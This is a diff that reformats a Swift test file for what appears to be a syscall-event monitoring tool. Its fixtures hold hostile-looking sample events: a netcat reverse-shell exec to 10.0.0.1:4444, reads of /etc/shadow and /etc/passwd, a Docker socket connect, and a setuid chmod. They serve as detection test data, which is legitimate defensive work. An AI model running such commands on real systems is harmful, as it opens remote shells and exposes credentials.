@@ -28,9 +28,22 @@ struct FieldAgreementTests {
         ("exec", .exec(filename: "/usr/bin/nc", argv: ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"])),
         ("failed exec", .exec(filename: "/tmp/x", argv: ["x", "a b "], result: -13)),
         ("open", .open(path: Array("/etc/shadow".utf8), flags: 0o2000000, result: 3)),
-        ("relative open", .open(path: Array("../etc/./passwd".utf8), directory: Array("/tmp".utf8), dirfd: 5, flags: 0o1101, result: -2)),
-        ("ipv4 connect", .connect(sockaddr: RecordFixture.sockaddrIPv4(10, 0, 0, 1, port: 443), local: [10, 0, 0, 2], localPort: 40000)),
-        ("ipv6 connect", .connect(sockaddr: RecordFixture.sockaddrIPv6([0xfd] + Array(repeating: 0, count: 14) + [1], port: 53), result: -111)),
+        (
+            "relative open",
+            .open(
+                path: Array("../etc/./passwd".utf8), directory: Array("/tmp".utf8), dirfd: 5, flags: 0o1101, result: -2)
+        ),
+        (
+            "ipv4 connect",
+            .connect(
+                sockaddr: RecordFixture.sockaddrIPv4(10, 0, 0, 1, port: 443), local: [10, 0, 0, 2], localPort: 40000)
+        ),
+        (
+            "ipv6 connect",
+            .connect(
+                sockaddr: RecordFixture.sockaddrIPv6([0xfd] + Array(repeating: 0, count: 14) + [1], port: 53),
+                result: -111)
+        ),
         ("unix connect", .connect(sockaddr: [1, 0] + Array("/run/docker.sock".utf8))),
         ("abstract connect", .connect(sockaddr: [1, 0, 0] + Array("hidden-door".utf8))),
         ("syscall", .syscall(.fchmodat, args: [-100, 0, 0o4755], path: Array("/tmp/suid".utf8))),
@@ -52,16 +65,21 @@ struct FieldAgreementTests {
 
     static func exit(status: Int64) -> RecordFixture {
         let header = RecordFixture.header(
-            kind: WITNESS_EVENT_EXIT, syscall: WITNESS_SYS_EXIT, size: MemoryLayout<witness_event_header>.size, result: status)
+            kind: WITNESS_EVENT_EXIT, syscall: WITNESS_SYS_EXIT, size: MemoryLayout<witness_event_header>.size,
+            result: status)
         return RecordFixture(bytes: withUnsafeBytes(of: header) { Array($0) })
     }
 
     /// Every field the catalogue knows that takes no argument, and the arguments the
     /// fixtures' events have.
     static var everyField: [String] {
-        let plain = FieldID.allCases.filter { ![.evtArg, .evtRawarg, .k8sPodLabel, .procEnvVariable, .unavailable].contains($0) }
-        return plain.map(\.rawValue) + ["evt.arg.status", "evt.arg.signal", "evt.arg.child_pid", "evt.arg.dirfd",
-            "evt.arg.filename", "evt.arg.mode", "evt.arg.oldfd", "evt.arg.newfd"]
+        let plain = FieldID.allCases.filter {
+            ![.evtArg, .evtRawarg, .k8sPodLabel, .procEnvVariable, .unavailable].contains($0)
+        }
+        return plain.map(\.rawValue) + [
+            "evt.arg.status", "evt.arg.signal", "evt.arg.child_pid", "evt.arg.dirfd",
+            "evt.arg.filename", "evt.arg.mode", "evt.arg.oldfd", "evt.arg.newfd",
+        ]
     }
 
     @Test(arguments: fixtures.map(\.0))
